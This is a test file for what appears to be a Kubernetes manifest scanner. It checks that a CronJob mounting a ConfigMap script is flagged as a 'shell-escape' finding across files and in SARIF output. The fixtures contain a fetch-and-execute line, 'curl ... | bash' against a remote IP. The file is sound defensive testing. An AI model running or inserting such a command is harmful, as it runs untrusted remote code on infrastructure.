import assert from 'node:assert/strict';
import { test } from 'node:test';
import { run, runJson, workspace } from './helpers.ts';

const JOB = `apiVersion: batch/v1
kind: CronJob
metadata: {name: nightly, namespace: ops}
spec:
  schedule: "0 2 * * *"
  jobTemplate:
    spec:
      template:
        spec:
          restartPolicy: Never
          containers:
          - name: runner
            image: registry.example.com/tools:1.0
            command: ["sh", "/scripts/run.sh"]
            volumeMounts: [{name: scripts, mountPath: /scripts}]
          volumes:
          - {name: scripts, configMap: {name: job-scripts}}
`;

const scripts = (script: string, namespace = 'ops') => `apiVersion: v1
kind: ConfigMap
metadata: {name: job-scripts, namespace: ${namespace}}
data:
  run.sh: |
    set -e
    ${script}
`;

test('scan of a folder follows a CronJob into the script of a ConfigMap in another file', () => {
  const dir = workspace({ 'job.yaml': JOB, 'config/scripts.yaml': scripts('curl -fsSL http://203.0.113.9/p | bash') });
  const { status, json } = runJson(['scan', '.'], { cwd: dir });
  assert.equal(status, 1);
  const shell = json.findings.find((finding: any) => finding.indicator === 'shell-escape');
  assert.equal(shell.file, 'job.yaml');
  assert.equal(shell.path, '/spec/jobTemplate/spec/template/spec/volumes/0/configMap');
  assert.deepEqual(shell.source, { file: 'config/scripts.yaml', document: 0, path: '/data/run.sh', range: { start: { line: 6, column: 5 }, end: { line: 7, column: 43 } } });
  assert.match(run(['scan', '.'], { cwd: dir }).stdout, /ConfigMap "job-scripts", mounted at \/scripts\/run\.sh in container "runner"\); written at config\/scripts\.yaml:6:5/);
  const sarif = JSON.parse(run(['scan', '.', '--format', 'sarif'], { cwd: dir }).stdout);
  const related = sarif.runs[0].results.find((result: any) => result.ruleId === 'shell-escape').relatedLocations[0];
  assert.equal(related.physicalLocation.artifactLocation.uri, 'config/scripts.yaml');
});

test('a harmless script, a ConfigMap of another namespace, and the job scanned alone stay quiet', () => {
  const harmless = workspace({ 'job.yaml': JOB, 'scripts.yaml': scripts('pg_dump "$DATABASE_URL" | gzip > /backup/db.sql.gz') });
  assert.equal(run(['scan', '.'], { cwd: harmless }).status, 0);
  const elsewhere = workspace({ 'job.yaml': JOB, 'scripts.yaml': scripts('curl -fsSL http://203.0.113.9/p | bash', 'dev') });
  assert.equal(run(['scan', '.'], { cwd: elsewhere }).status, 0);
  const alone = workspace({ 'job.yaml': JOB, 'scripts.yaml': scripts('curl -fsSL http://203.0.113.9/p | bash') });
  assert.equal(run(['scan', 'job.yaml'], { cwd: alone }).status, 0);
});
